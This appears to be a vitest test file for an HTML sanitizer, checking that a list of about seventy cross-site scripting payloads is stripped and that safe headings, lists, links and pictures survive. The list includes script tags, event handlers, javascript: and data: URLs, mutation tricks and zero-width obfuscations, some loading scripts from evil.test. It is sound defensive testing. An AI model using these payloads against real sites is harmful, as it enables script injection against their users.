import { describe, expect, test } from 'vitest';
import { cleanHtml, pictureIdsOf, withPictures, wordsOf } from './clean-html.ts';

const ID = '0190a5f3-1111-7abc-8def-0123456789ab';

/** Known ways to bring a script into a page through HTML that somebody wrote. */
const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src="https://evil.test/x.js"></script>',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<img/src=x/onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src="javascript:alert(1)">',
  '<img src=`x` onerror=alert(1)>',
  `<img data-file="${ID}" src="https://evil.test/pixel.gif" onload="alert(1)">`,
  `<img data-file="${ID}&quot; onerror=&quot;alert(1)">`,
  '<img data-file="x\' onerror=alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="https://ok.test" onclick="alert(1)" style="position:fixed">x</a>',
  '<a href="https://ok.test" target="_top" rel="opener">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.test/">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<style>@import "https://evil.test/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p onmouseover="alert(1)">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<ol start="1 onmouseover=alert(1)"><li>x</li></ol>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<title><img src=x onerror=alert(1)></title>',
  '</p></div><script>alert(1)</script>',
  '<a href="https://ok.test/&quot;onmouseover=&quot;alert(1)">x</a>',
  // Characters that nobody sees, inside an address: what is left without them must not begin to run.
  '<a href="java\u200bscript:alert(1)">x</a>',
  '<a href="java&#x200b;script:alert(1)">x</a>',
  '<a href="java&ZeroWidthSpace;script:alert(1)">x</a>',
  '<a href="\u202ejavascript:alert(1)">x</a>',
  '<a href="java\u2028script:alert(1)">x</a>',
  '<a href="java&shy;script&#x2060;&colon;alert(1)">x</a>',
  '<a href="/&#x200b;/evil.test">x</a>',
  '<a href="/&#x200b;\\evil.test">x</a>',
];

/** All that may be left: text without angle brackets, and these marks as the cleaner writes them. */
const MARKS = [
  '</?(?:p|h2|h3|strong|em|u|s|ul|ol|li|blockquote)>',
  '</a>',
  '<(?:br|hr) />',
  '<ol start="[^"<>]*">',
  '<a (?:href="(?:https?://|mailto:|tel:)[^"<>]*" )?rel="noopener noreferrer nofollow" target="_blank">',
  '<img data-file="[0-9a-f-]{36}" alt="[^"<>]*" />',
];
const HARMLESS = new RegExp(`^(?:[^<>]|${MARKS.join('|')})*$`);

describe('an article', () => {
  test.each(HOSTILE.map((html) => ({ html })))('loses what is hostile in $html', ({ html }) => {
    const cleaned = cleanHtml(`<p>before</p>${html}<p>after</p>`);
    expect(cleaned).toMatch(HARMLESS);
    expect(cleaned).toContain('<p>before</p>');
    expect(cleanHtml(cleaned)).toBe(cleaned);
    expect(withPictures(cleaned, () => '/files/x?a=1&b=2').replaceAll(' src="/files/x?a=1&amp;b=2"', '')).toBe(cleaned);
  });

  test('keeps headings, lists, links and its own pictures', () => {
    const html = `<h2>ประกาศ</h2><ol start="3"><li><strong>One</strong></li></ol><p><a href="https://wela.test/a?b=1&amp;c=2">more</a></p><img data-file="${ID.toUpperCase()}" alt="Map">`;
    expect(cleanHtml(html)).toBe(
      `<h2>ประกาศ</h2><ol start="3"><li><strong>One</strong></li></ol><p><a href="https://wela.test/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">more</a></p><img data-file="${ID}" alt="Map" />`,
    );
    expect(pictureIdsOf(cleanHtml(html + html))).toEqual([ID]);
  });

  test('loses what a reader does not see, also where it is written as a mark', () => {
    expect(cleanHtml('<p>100\u202e000&#x202e; &#8238;&zwnj;บาท\u200b</p>')).toBe('<p>100000 บาท</p>');
  });

  test.each([
    { written: 'www.wela.test/a?b=1', is: 'https://www.wela.test/a?b=1' },
    { written: 'wela.test', is: 'https://wela.test' },
    { written: ' https://wela.test/ ', is: 'https://wela.test/' },
    { written: 'hr@wela.test', is: 'mailto:hr@wela.test' },
    { written: 'tel:+6621234567', is: 'tel:+6621234567' },
  ])('has a link to $is where somebody wrote "$written"', ({ written, is }) => {
    expect(cleanHtml(`<a href="${written}">x</a>`)).toContain(`href="${is}"`);
  });

  test.each(['/en/sign-out', '#top', 'canteen', '?a=1', '../files'])(
    'has no link to %s, which leads somewhere else on each page',
    (written) => {
      expect(cleanHtml(`<a href="${written}">x</a>`)).not.toContain('href');
    },
  );

  test('without a word is told from one with words', () => {
    expect(wordsOf(cleanHtml('<p> </p><p><br></p><p>&nbsp;</p>'))).toBe('');
    expect(wordsOf(cleanHtml('<p>a &lt; b</p>'))).toBe('a &lt; b');
  });
});
